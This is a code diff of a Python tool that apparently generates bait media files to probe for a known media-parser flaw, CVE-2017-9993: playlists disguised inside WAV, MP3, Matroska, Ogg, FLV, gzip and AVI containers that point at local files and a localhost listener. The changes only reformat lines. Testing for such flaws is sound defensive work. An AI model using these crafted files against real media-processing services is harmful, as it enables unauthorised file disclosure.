@@ -55,7 +55,7 @@ def playlists(bait: Bait) -> dict[str, bytes]:
         "PLS": f"[playlist]\nFile1={file}\nFile2={url}\nNumberOfEntries=2\n",
         "XSPF": f'<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>{url}</location></track></trackList></playlist>',
         "WPL": f'<?wpl version="1.0"?><smil><body><seq><media src="{file}"/></seq></body></smil>',
-        "QuickTime link": f'<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="{url}"/>',
+        "QuickTime link": f'<?quicktime type="application/x-quicktime-media-link"?><embed src="{url}"/>',
         "RTSP text": f"RTSPtext\nrtsp://127.0.0.1:{bait.port}/x\n",
         "Real metafile": f"rtsp://127.0.0.1:{bait.port}/x\n{file}\n",
         "address": f"[InternetShortcut]\nURL={url}\n",
@@ -94,7 +94,10 @@ def disguised(bait: Bait) -> dict[str, bytes]:
         "WAV with a playlist": b"RIFF" + struct.pack("<I", len(lines) + 12) + b"WAVEdata" + lines,
         "transport stream with a playlist": (b"G" + bytes(187)) * 20 + lines,
         "MP3 with a playlist": b"ID3\4\0\0\0\0\0\x0a" + bytes(10) + lines,
-        "Matroska head with a playlist": bytes.fromhex("1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b61") + lines,
+        "Matroska head with a playlist": bytes.fromhex(
+            "1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b61"
+        )
+        + lines,
         "Ogg with a playlist": b"OggS\0\2" + bytes(20) + b"\1\x1e\1vorbis" + lines,
         "FLV with a playlist": b"FLV\1\5\0\0\0\x09\0\0\0\0" + lines,
         "gzip of a playlist": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + lines,
@@ -103,7 +106,14 @@ def disguised(bait: Bait) -> dict[str, bytes]:
 
 def avi_of(lines: bytes) -> bytes:
     """An AVI whose subtitles are a playlist (the way in of CVE-2017-9993): GAB2 within a text stream."""
-    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 10) + "x.srt".encode("utf-16-le") + b"\4\0" + struct.pack("<I", len(lines)) + lines
+    gab2 = (
+        b"GAB2\0\2\0"
+        + struct.pack("<I", 10)
+        + "x.srt".encode("utf-16-le")
+        + b"\4\0"
+        + struct.pack("<I", len(lines))
+        + lines
+    )
 
     def chunk(name: bytes, body: bytes) -> bytes:
         return name + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)
